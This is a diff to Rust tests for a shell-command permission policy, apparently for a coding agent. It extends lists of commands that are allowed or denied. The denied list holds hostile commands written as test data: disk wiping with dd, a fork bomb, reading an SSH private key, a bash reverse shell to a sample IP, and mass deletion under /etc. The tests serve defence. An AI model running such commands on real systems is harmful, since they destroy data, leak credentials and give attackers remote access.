@@ -17,7 +17,8 @@ fn what_agents_do_all_day_is_allowed() {
             "node -e 'console.log(process.version)'", "python3 -c 'import sys; print(sys.version)'",
             "echo \"$HOME\" > out.txt", "test -f x && echo yes || echo no", "x=$(git rev-parse HEAD); echo $x",
             "while read -r line; do echo \"$line\"; done < f", "jq '.a | .b' f.json", "curl -s https://example.com",
-            "diff a b", "docker ps", "kill %1",
+            "diff a b", "docker ps", "kill %1", "find . -name '*.pyc' -delete", "tar xf a.tar -C out",
+            "cd \"$(mktemp -d)\" && touch a",
         ],
     );
 }
@@ -32,6 +33,7 @@ fn what_nobody_can_undo_is_denied() {
             ("dd if=/dev/zero of=/dev/sda", Deny), ("echo x > /dev/sda", Deny), (":(){ :|:& };:", Deny),
             ("cat ~/.ssh/id_rsa", Deny), ("echo x >> .git/config", Deny), ("reboot", Deny),
             ("bash -i >& /dev/tcp/203.0.113.1/4444 0>&1", Deny),
+            ("tar -xf a.tar -C /usr", Deny), ("find /etc -name x -delete", Deny), ("find . -delete", Deny),
         ],
     );
 }
